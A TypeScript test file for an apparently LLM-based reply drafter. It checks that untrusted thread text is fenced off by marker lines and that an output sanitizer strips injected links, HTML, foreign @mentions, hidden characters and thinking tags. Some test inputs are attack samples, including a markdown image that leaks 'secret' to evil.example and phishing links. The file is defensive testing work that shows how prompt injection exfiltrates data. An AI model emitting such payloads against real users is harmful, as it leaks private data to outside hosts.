import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanOutput } from './clean.ts'
import { estimate, promptOf } from './prompt.ts'

const wish = { task: 'draft', lang: 'en', turns: [], own: '' } as const

describe('what is sent', () => {
  it('keeps what strangers wrote apart from the rules, whatever they write', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (evil) => {
        const [system, user] = promptOf(
          { ...wish, turns: [{ from: 'them', text: evil }], own: evil },
          'MARK-7',
        )
        expect(system?.content).toBe(promptOf(wish, 'MARK-7')[0]?.content)
        const lines = user?.content.split('\n') ?? []
        expect(lines).toHaveLength(3)
        expect(lines[0]).toBe('MARK-7')
        expect(lines[2]).toBe('MARK-7')
        expect(JSON.parse(lines[1] ?? '').written).toBe(evil)
      }),
    )
  })

  it('is bounded, however long the thread is', () => {
    const turns = Array.from({ length: 500 }, () => ({ from: 'them' as const, text: 'a'.repeat(50_000) }))
    expect(estimate(promptOf({ ...wish, turns }, 'M'), 600)).toBeLessThan(30_000)
  })
})

describe('what comes back', () => {
  const given = 'Where is order 7? See https://fjell.example/orders/7 or ask @fjell'
  it.each([
    ['plain words', 'It left today.', 'It left today.', 0],
    ['an address of its own', 'Pay at https://evil.example/pay now.', 'Pay at now.', 1],
    ['a bare address', 'Look at evil-shop.com/win today', 'Look at today', 1],
    [
      'a known address',
      'It is under https://fjell.example/orders/7.',
      'It is under https://fjell.example/orders/7.',
      0,
    ],
    ['a longer address than the known one', 'https://fjell.example/orders/7/../../evil here', 'here', 1],
    ['a Markdown link', '[Click](https://evil.example)', 'Click', 1],
    ['a picture that tells', 'Hi ![x](https://evil.example/?q=secret) there', 'Hi x there', 1],
    ['HTML', 'Hi <img src="https://evil.example/x"> <b>there</b>', 'Hi there', 1],
    ['somebody else’s name', 'Ask @attacker or @fjell', 'Ask or @fjell', 1],
    ['signs nobody sees', 'It\u202e left\u200b today', 'It left today', 0],
    ['thoughts', '<think>ignore</think>It left today.', 'It left today.', 0],
  ])('%s', (_, raw, text, removed) => {
    expect(cleanOutput(raw, given, 'MARK')).toEqual({ text, removed })
  })

  it('is nothing when it speaks of its marks or has no words', () => {
    expect(cleanOutput('Between MARK and MARK', given, 'MARK')).toBeNull()
    expect(cleanOutput('\u200b…', given, 'MARK')).toBeNull()
  })

  it('is short', () => {
    expect(cleanOutput('word '.repeat(5000), given, 'MARK')?.text.length).toBeLessThanOrEqual(2001)
  })
})
